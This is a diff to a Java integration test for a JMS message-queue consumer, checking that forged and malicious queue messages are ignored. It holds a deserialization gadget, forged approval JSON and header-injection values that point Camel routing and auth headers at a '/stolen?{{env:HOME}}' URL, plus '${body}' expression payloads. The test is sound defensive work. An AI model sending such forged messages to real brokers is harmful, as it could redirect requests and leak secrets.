@@ -2,6 +2,7 @@ package io.connectprocessor.journey;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import io.connectprocessor.http.RecordingServer;
 import io.connectprocessor.journey.Journey.Said;
 import io.connectprocessor.ledger.Postgres;
 import io.connectprocessor.queue.RestartableArtemis;
@@ -10,7 +11,10 @@ import io.connectprocessor.sandbox.Fault;
 import io.connectprocessor.sandbox.Sandbox;
 import io.connectprocessor.sandbox.Seed;
 import jakarta.jms.Connection;
+import jakarta.jms.JMSException;
+import jakarta.jms.Message;
 import jakarta.jms.Session;
+import jakarta.jms.TextMessage;
 import java.io.IOException;
 import java.io.ObjectInputStream;
 import java.io.Serializable;
@@ -210,23 +214,72 @@ class BrokerJourneyTest {
     }
 
     @Test
-    void an_object_in_the_queue_is_never_opened_and_stops_nobody() throws Exception {
+    void what_others_put_into_the_queue_is_never_opened_leads_nowhere_and_stops_nobody() throws Exception {
         broker.start();
         try (Sandbox sandbox = Sandbox.builder().start();
                 ActiveMQConnectionFactory factory = new ActiveMQConnectionFactory(
                         broker.url(), RestartableArtemis.USER, RestartableArtemis.PASSWORD);
                 Connection connection = factory.createConnection();
-                Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE)) {
+                Session session = connection.createSession(false, Session.AUTO_ACKNOWLEDGE);
+                RecordingServer elsewhere = new RecordingServer()) {
             var sender = session.createProducer(session.createQueue(QUEUE));
             sender.send(session.createObjectMessage(new Gadget()));
-            sender.send(session.createTextMessage("no request"));
-            String pending = sandbox.seed().purchase().pending();
+            sender.send(session.createStreamMessage());
+            sender.send(session.createMapMessage());
+            sender.send(session.createMessage());
+            String pending = sandbox.seed().purchase().item("SEAT", "10").pending();
+            for (String text : List.of(
+                    "no request",
+                    "",
+                    "null",
+                    "[]",
+                    "{\"id\": 7}",
+                    "{\"id\": \"..\"}",
+                    "{\"id\": \"PR-0000-0000-0000-000\"}",
+                    "{\"id\": \"" + pending + "\", \"type\": \"cancel\", \"status\": \"approved\"}",
+                    "[".repeat(100_000))) {
+                sender.send(forged(session.createTextMessage(text), elsewhere));
+            }
 
             assertThat(node("once", sandbox).run("run", "--once")).isZero();
 
             assertThat(status(sandbox, pending)).isEqualTo("approved");
+            assertThat(sandbox.vendorBodies(pending)).singleElement().satisfies(call -> {
+                assertThat(call.path()).endsWith("/subscriptions");
+                assertThat(call.body()).contains("\"10\"");
+            });
+            assertThat(sandbox.books().repeatedVendorEffects()).isEmpty();
             assertThat(broker.messages(QUEUE)).isZero();
             assertThat(Gadget.OPENED).hasValue(0);
+            assertThat(elsewhere.received()).isEmpty();
         }
+    }
+
+    /** With all that JMS lets stand in a property's name, and answers wanted elsewhere. */
+    private static Message forged(TextMessage message, RecordingServer elsewhere) throws JMSException {
+        for (String name : List.of(
+                "CamelHttpUri",
+                "CamelRestHttpUri",
+                "CamelHttpPath",
+                "CamelHttpQuery",
+                "CamelHttpMethod",
+                "CamelJmsDestinationName",
+                "CamelFileName",
+                "CamelBeanMethodName",
+                "Authorization",
+                "Content_HYPHEN_Type",
+                "Idempotency_HYPHEN_Key",
+                "ConnectRequestId",
+                "ConnectRequestKind",
+                "ConnectAskedAt",
+                "ConnectSeal",
+                "ConnectFailure",
+                "ConnectClaimedRequest",
+                "JMSXGroupID")) {
+            message.setStringProperty(name, elsewhere.url() + "/stolen?{{env:HOME}}");
+        }
+        message.setJMSType("${body}");
+        message.setJMSCorrelationID("${body}");
+        return message;
     }
 }
